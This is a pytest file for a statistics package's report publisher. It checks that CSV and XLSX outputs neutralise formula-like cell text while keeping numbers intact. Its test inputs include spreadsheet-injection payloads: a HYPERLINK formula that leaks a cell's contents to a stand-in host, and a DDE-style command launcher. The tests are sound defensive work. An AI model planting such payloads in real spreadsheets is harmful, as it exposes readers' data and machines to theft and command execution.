"""The files published beside a report (akimstat.report.outputs): formula-like text neutralised in
every CSV and XLSX cell without changing numbers; units of table columns."""

from __future__ import annotations

import pandas as pd
import pytest

from workbooks import sheets_by_table

from akimstat.report import outputs as publish
from akimstat.safe import FORMULA_START

ATTACKS = ['=HYPERLINK("http://evil.example/?d="&A1,"click")', "=1+1", "@SUM(A1)", "+cmd|' /C calc'!A0",
           "-2+3+cmd", "\t=1", "\r=1"]


@pytest.mark.parametrize("text", ATTACKS)
def test_formula_like_text_is_neutralised(text):
    assert publish.safe_text(text) == "'" + text.replace("\r", "\n")  # line breaks as LF


@pytest.mark.parametrize("value", ["-1.3", "+2,0", "-0.1", "+1", "12.5%", "p < 0.001", "KZ-PAV-D01", 3, -2.5, None])
def test_numbers_and_plain_text_are_unchanged(value):
    assert publish.safe_text(value) == value


def test_a_frame_keeps_its_numbers_and_neutralises_its_text():
    frame = pd.DataFrame({"district": ["=1+1", "D2"], "count": [-3, 4], "share": [-0.5, float("nan")]})
    safe = publish.safe_frame(frame)
    assert list(safe["district"]) == ["'=1+1", "D2"]
    assert safe["count"].tolist() == [-3, 4] and safe["share"].iloc[0] == -0.5 and pd.isna(safe["share"].iloc[1])
    assert frame["district"].iloc[0] == "=1+1"  # the caller's frame is left alone


@pytest.mark.parametrize("column, unit", [("count", "count"), ("nobs", "count"), ("share", "proportion"),
                                          ("low_99.8", "proportion"), ("share_base", "proportion"),
                                          ("change", "difference"), ("pvalue_holm", "pvalue"), ("ratio_low", "ratio"),
                                          ("region", None), ("flag_95", None)])
def test_units_of_table_columns(column, unit):
    assert publish.unit_of(column) == unit


@pytest.fixture(scope="module")
def hostile_save(tmp_path_factory):
    """A regional report whose district table holds formula-like names, saved."""
    from akimstat.report import Report

    report = Report.from_parameters(scope="KZ-PAV", language="en")
    frame = report.views["districts"].frames["districts"]
    attacks = ATTACKS[:-1]  # a CR inside a field is a CSV matter of its own (the data refuses it)
    frame["district"] = [attacks[i % len(attacks)] for i in range(len(frame))]
    folder = tmp_path_factory.mktemp("hostile")
    report.save(folder)
    return folder, frame


def test_csv_and_xlsx_cells_never_start_a_formula(hostile_save):
    import openpyxl

    folder, frame = hostile_save
    import csv

    with open(folder / "tables/districts.csv", encoding="utf-8", newline="") as f:
        written = list(csv.DictReader(f))
    assert [row["district"] for row in written] == ["'" + a for a in frame["district"]]
    assert [int(row["akims"]) for row in written] == frame["akims"].tolist()
    book = openpyxl.load_workbook(folder / "report.xlsx")
    districts = sheets_by_table(book)["districts"]
    cells = [c.value for row in districts.iter_rows() for c in row if isinstance(c.value, str)]
    assert not [c for c in cells if c.startswith(FORMULA_START)]
    assert any(c == "'" + ATTACKS[0] for c in cells)
    numbers = [c.value for c in districts["B"] if isinstance(c.value, int)]
    assert numbers == frame["akims"].tolist()
